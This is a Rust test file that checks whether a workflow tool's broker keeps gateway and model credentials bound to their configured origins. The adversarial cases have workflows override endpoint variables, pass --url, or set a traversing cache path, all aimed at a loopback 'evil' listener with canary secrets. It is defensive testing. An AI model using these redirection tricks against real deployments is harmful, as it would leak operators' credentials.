//! Credentials bound to origins (issue 22): the adversarial table of the
//! broker's endpoints. The operator starts `lobster` with a gateway and a
//! model configured in the environment (`OPENCLAW_URL` + `OPENCLAW_TOKEN`,
//! `LOBSTER_LLM_BASE_URL` + `LOBSTER_LLM_API_KEY`, the adapters' pairs), each
//! a loopback stand-in that demands its secret. A workflow author tries to
//! send those secrets elsewhere — a second stand-in on another loopback port
//! that demands nothing and logs every request — through `env:` (workflow,
//! step, sub-workflow), a pipeline's `--url`, a wasm step's broker import,
//! or `LOBSTER_CACHE_DIR`. Every case runs through two doors (`lobster run`
//! and `lobster call`) and under both trust levels where the case exists
//! there, and asserts: the outcome (refused, or served by the operator's
//! endpoint), that the other listener saw no request carrying a secret (and
//! no request at all where the endpoint was the workflow's choice), that no
//! file appeared outside the run's directory, and that the envelope says
//! what ran.

use crate::broker::Stub;
use crate::common::{test_guest, Env, Run};
use serde_json::{json, Value};
use std::path::Path;

const GW_SECRET: &str = "gw-secret-canary-7d1";
const MODEL_SECRET: &str = "sk-model-canary-3e9";

/// What one case must end in.
#[derive(Clone, Copy, Debug, PartialEq)]
enum Expect {
    /// Ran; the operator's endpoint answered (with its secret); the other
    /// listener saw nothing.
    Operator,
    /// Ran against the pipeline's own `--url` (trusted): it got a request,
    /// but without any configured secret.
    NoSecret,
    /// Refused with this text; nothing reached the other listener.
    Refused(&'static str),
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Door {
    Run,
    Call,
}

#[derive(Clone, Copy, Debug, PartialEq)]
enum Trust {
    Trusted,
    Untrusted,
}

struct Case {
    name: &'static str,
    /// The workflow file (`{EVIL_GW}`, `{EVIL_MODEL}` are replaced), or a
    /// pipeline when it starts with `|`.
    text: &'static str,
    /// Files beside it.
    files: &'static [(&'static str, &'static str)],
    trust: &'static [Trust],
    expect: fn(Trust) -> Expect,
    /// Needs the brokered guest step on `--steps`.
    steps: bool,
}

struct World {
    env: Env,
    gw: Stub,
    model: Stub,
    evil_gw: Stub,
    evil_model: Stub,
}

impl World {
    fn new() -> World {
        World {
            env: Env::new(),
            gw: Stub::start("gateway", Some(GW_SECRET)),
            model: Stub::start("model", Some(MODEL_SECRET)),
            evil_gw: Stub::start("gateway", None),
            evil_model: Stub::start("model", None),
        }
    }

    fn text(&self, t: &str) -> String {
        t.replace("{EVIL_GW}", &self.evil_gw.url)
            .replace("{EVIL_MODEL}", &self.evil_model.url)
    }

    fn run(&self, case: &Case, door: Door, trust: Trust, steps: Option<&str>) -> Run {
        let run_dir = self.env.work_path("run");
        let _ = std::fs::remove_dir_all(&run_dir);
        std::fs::create_dir_all(&run_dir).unwrap();
        for (name, body) in case.files {
            std::fs::write(run_dir.join(name), self.text(body)).unwrap();
        }
        let policy = match trust {
            Trust::Trusted => "trust = \"trusted\"\n",
            Trust::Untrusted => {
                "trust = \"untrusted\"\ntools = [\"echo\", \"llm-task\"]\nllm = true\nenv = [\"*\"]\n"
            }
        };
        std::fs::write(self.env.work_path("policy.toml"), policy).unwrap();
        let pipeline = if let Some(p) = case.text.strip_prefix('|') {
            self.text(p.trim())
        } else {
            std::fs::write(run_dir.join("wf.lobster"), self.text(case.text)).unwrap();
            "wf.lobster".to_string()
        };
        let mut sandbox: Vec<String> = Vec::new();
        if let Some(s) = steps {
            sandbox.extend([
                "--steps".into(),
                s.into(),
                "--allow-tool".into(),
                "echo".into(),
            ]);
            sandbox.push("--allow-llm".into());
        }
        let mut c = match door {
            Door::Run => {
                let mut words = vec!["run", "--mode", "tool"];
                words.extend(sandbox.iter().map(String::as_str));
                words.push(&pipeline);
                self.env.command(&words)
            }
            Door::Call => {
                let req = json!({"action": "run", "pipeline": pipeline}).to_string();
                self.env.command(&["call", &req])
            }
        };
        c.current_dir(&run_dir);
        for k in [
            "OPENCLAW_URL",
            "CLAWD_URL",
            "OPENCLAW_TOKEN",
            "CLAWD_TOKEN",
            "LOBSTER_LLM_PROVIDER",
            "LOBSTER_CACHE_DIR",
            "LOBSTER_STEP_PATH",
        ] {
            c.env_remove(k);
        }
        let v1 = format!("{}/v1", self.model.url);
        c.env("LOBSTER_POLICY", self.env.work_path("policy.toml"))
            .env("OPENCLAW_URL", &self.gw.url)
            .env("OPENCLAW_TOKEN", GW_SECRET)
            .env("LOBSTER_LLM_BASE_URL", &v1)
            .env("LOBSTER_LLM_API_KEY", MODEL_SECRET)
            .env("LOBSTER_LLM_MODEL", "stub-model")
            .env("LOBSTER_LLM_ADAPTER_URL", &self.model.url)
            .env("LOBSTER_LLM_ADAPTER_TOKEN", MODEL_SECRET)
            .env("LOBSTER_PI_LLM_ADAPTER_URL", &self.model.url)
            .env("LOBSTER_PI_LLM_ADAPTER_TOKEN", MODEL_SECRET);
        crate::common::finish(c.output().unwrap())
    }

    fn forget(&self) -> usize {
        self.gw.requests().len() + self.model.requests().len()
    }
}

fn carries_secret(requests: &[Value]) -> bool {
    requests.iter().any(|r| {
        let text = r.to_string();
        text.contains(GW_SECRET) || text.contains(MODEL_SECRET)
    })
}

/// Files under `root` other than those under `run/` and the policy.
fn strays(root: &Path) -> Vec<String> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(root).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if !["run", "policy.toml", "steps"].contains(&name.as_str()) {
            out.push(name);
        }
    }
    out
}

fn cases() -> Vec<Case> {
    use Trust::*;
    let both: &'static [Trust] = &[Trusted, Untrusted];
    let operator = |_| Expect::Operator;
    vec![
        Case {
            name: "workflow env: OPENCLAW_URL redirects openclaw.invoke",
            text: "env:\n  OPENCLAW_URL: {EVIL_GW}\nsteps:\n  - id: s\n    pipeline: openclaw.invoke --tool echo --action json --args-json '{\"a\":1}'\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "step env: CLAWD_URL and OPENCLAW_URL (another spelling, step level)",
            text: "steps:\n  - id: s\n    env:\n      CLAWD_URL: {EVIL_GW}\n      OPENCLAW_URL: {EVIL_GW}/\n    pipeline: openclaw.invoke --tool echo --action json\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "env: of a sub-workflow redirects llm_task.invoke",
            text: "steps:\n  - id: s\n    workflow: sub.lobster\n",
            files: &[(
                "sub.lobster",
                "env:\n  OPENCLAW_URL: {EVIL_GW}\nsteps:\n  - id: t\n    pipeline: llm_task.invoke --prompt hi --output-schema '{\"type\":\"object\"}'\n",
            )],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "env: LOBSTER_LLM_BASE_URL redirects the openai provider",
            text: "env:\n  LOBSTER_LLM_BASE_URL: {EVIL_MODEL}/v1\n  LOBSTER_LLM_API_KEY: attacker\nsteps:\n  - id: s\n    pipeline: llm.invoke --provider openai --prompt hi --disable-cache\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "env: LOBSTER_LLM_ADAPTER_URL redirects the http adapter",
            text: "steps:\n  - id: s\n    env:\n      LOBSTER_LLM_ADAPTER_URL: {EVIL_MODEL}\n    pipeline: llm.invoke --provider http --prompt hi --disable-cache\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "env: LOBSTER_PI_LLM_ADAPTER_URL redirects the pi adapter",
            text: "steps:\n  - id: s\n    env:\n      LOBSTER_PI_LLM_ADAPTER_URL: {EVIL_MODEL}\n      LOBSTER_LLM_PROVIDER: pi\n    pipeline: llm.invoke --prompt hi --disable-cache\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: false,
        },
        Case {
            name: "a wasm step's invoke-tool under env: OPENCLAW_URL",
            text: "env:\n  OPENCLAW_URL: {EVIL_GW}\nsteps:\n  - id: s\n    pipeline: brokered --tool echo\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: true,
        },
        Case {
            name: "a wasm step's llm-json under env: LOBSTER_LLM_BASE_URL",
            text: "env:\n  LOBSTER_LLM_BASE_URL: {EVIL_MODEL}/v1\n  LOBSTER_LLM_PROVIDER: openai\nsteps:\n  - id: s\n    pipeline: brokered --llm\n    stdin: [\"x\"]\n",
            files: &[],
            trust: both,
            expect: operator,
            steps: true,
        },
        Case {
            name: "a pipeline's --url to another loopback port",
            text: "| openclaw.invoke --url {EVIL_GW} --tool echo --action json",
            files: &[],
            trust: both,
            expect: |t| match t {
                Trusted => Expect::NoSecret,
                Untrusted => Expect::Refused("--url is refused under the untrusted policy"),
            },
            steps: false,
        },
        Case {
            name: "a workflow step's --url to another loopback port",
            text: "steps:\n  - id: s\n    pipeline: openclaw.invoke --url {EVIL_GW}/tools/invoke --tool echo --action json\n",
            files: &[],
            trust: both,
            expect: |t| match t {
                Trusted => Expect::NoSecret,
                Untrusted => Expect::Refused("--url is refused under the untrusted policy"),
            },
            steps: false,
        },
    ]
}

#[test]
fn a_secret_goes_only_to_the_origin_it_was_configured_for() {
    let w = World::new();
    let steps = {
        let dir = w.env.work_path("steps");
        std::fs::create_dir_all(&dir).unwrap();
        test_guest("brokered")
            .map(|g| std::fs::copy(g, dir.join("brokered.wasm")).unwrap())
            .map(|_| dir.to_str().unwrap().to_string())
    };
    let mut failures = Vec::new();
    let mut ran = 0;
    for case in cases() {
        if case.steps && steps.is_none() {
            continue;
        }
        for &trust in case.trust {
            for door in [Door::Run, Door::Call] {
                if case.steps && door == Door::Call {
                    // `lobster call` grants steps nothing (no --allow-tool).
                    continue;
                }
                let before = w.forget();
                let (evil_gw_before, evil_model_before) =
                    (w.evil_gw.requests().len(), w.evil_model.requests().len());
                let r = w.run(
                    &case,
                    door,
                    trust,
                    if case.steps { steps.as_deref() } else { None },
                );
                ran += 1;
                let what = format!("{} [{door:?}, {trust:?}]", case.name);
                let v: Value = serde_json::from_str(&r.stdout).unwrap_or(Value::Null);
                let evil: Vec<Value> = w.evil_gw.requests()[evil_gw_before..]
                    .iter()
                    .chain(w.evil_model.requests()[evil_model_before..].iter())
                    .cloned()
                    .collect();
                if carries_secret(&evil) {
                    failures.push(format!("{what}: the other listener got a secret: {evil:?}"));
                }
                let stray = strays(w.env.work.path());
                if !stray.is_empty() {
                    failures.push(format!("{what}: files outside the run: {stray:?}"));
                }
                for secret in [GW_SECRET, MODEL_SECRET] {
                    if r.stdout.contains(secret) || r.stderr.contains(secret) {
                        failures.push(format!("{what}: the secret was printed"));
                    }
                }
                match (case.expect)(trust) {
                    Expect::Operator => {
                        if v["ok"] != true || v["status"] != "ok" {
                            failures.push(format!("{what}: did not run: {r:?}"));
                        } else if w.forget() <= before {
                            failures.push(format!("{what}: the operator's endpoint got nothing"));
                        }
                        if !evil.is_empty() {
                            failures.push(format!("{what}: the other listener got {evil:?}"));
                        }
                    }
                    Expect::NoSecret => {
                        if v["ok"] != true {
                            failures.push(format!("{what}: did not run: {r:?}"));
                        }
                        if evil.len() != 1 || !evil[0]["auth"].is_null() {
                            failures.push(format!(
                                "{what}: wanted one request without a token, got {evil:?}"
                            ));
                        }
                    }
                    Expect::Refused(text) => {
                        let msg = v["error"]["message"].as_str().unwrap_or_default();
                        if v["ok"] != false || !msg.contains(text) {
                            failures.push(format!("{what}: not refused with {text:?}: {r:?}"));
                        }
                        if !evil.is_empty() || w.forget() != before {
                            failures.push(format!("{what}: a refused run sent {evil:?}"));
                        }
                    }
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {ran} runs:\n{}",
        failures.len(),
        failures.join("\n")
    );
    assert!(ran >= 32, "{ran} runs");
}

/// The llm.invoke cache is the operator's: `LOBSTER_CACHE_DIR` in `env:`
/// (absolute, `..`, or a sibling of the run) moves nothing; the cache lands
/// in the run's own `.lobster-cache`.
#[test]
fn the_cache_directory_is_the_operators() {
    let w = World::new();
    for dir in ["/ABS/evil-cache", "../evil-cache", "evil-cache"] {
        for trust in [Trust::Trusted, Trust::Untrusted] {
            let abs = w.env.work_path("evil-abs");
            let dir = dir.replace("/ABS", abs.to_str().unwrap());
            let text: &'static str = Box::leak(
                format!(
                    "env:\n  LOBSTER_CACHE_DIR: {dir}\nsteps:\n  - id: s\n    pipeline: llm.invoke --provider openai --prompt cached\n"
                )
                .into_boxed_str(),
            );
            let case = Case {
                name: "cache",
                text,
                files: &[],
                trust: &[],
                expect: |_| Expect::Operator,
                steps: false,
            };
            let r = w.run(&case, Door::Run, trust, None);
            assert_eq!(r.json()["status"], "ok", "{dir} {trust:?}: {r:?}");
            let run_dir = w.env.work_path("run");
            assert!(
                run_dir.join(".lobster-cache/llm.invoke").is_dir(),
                "{dir} {trust:?}: no cache in the run's directory"
            );
            for evil in [
                abs.clone(),
                w.env.work_path("evil-cache"),
                run_dir.join("evil-cache"),
            ] {
                assert!(
                    !evil.exists(),
                    "{dir} {trust:?}: {} was written",
                    evil.display()
                );
            }
        }
    }
}

/// Under `untrusted`, a variable that holds a credential is never handed to
/// a step, even when the operator grants it and the policy's list allows it.
#[test]
fn an_untrusted_step_never_receives_a_credential_variable() {
    let w = World::new();
    let policy = w.env.work_path("wide.toml");
    std::fs::write(&policy, "trust = \"untrusted\"\nenv = [\"*\"]\n").unwrap();
    for name in [
        "OPENCLAW_TOKEN",
        "LOBSTER_LLM_API_KEY",
        "LOBSTER_LLM_ADAPTER_TOKEN",
    ] {
        let r = w
            .env
            .command(&[
                "run",
                "--mode",
                "tool",
                "--policy",
                policy.to_str().unwrap(),
                "--allow-env",
                name,
                "head",
            ])
            .env_remove("LOBSTER_POLICY")
            .env(name, GW_SECRET)
            .output()
            .unwrap();
        let r = crate::common::finish(r);
        assert_ne!(r.code, 0, "{name}: {r:?}");
        assert!(r.stdout.contains("holds a credential"), "{name}: {r:?}");
        assert!(!r.stdout.contains(GW_SECRET) && !r.stderr.contains(GW_SECRET));
    }
}
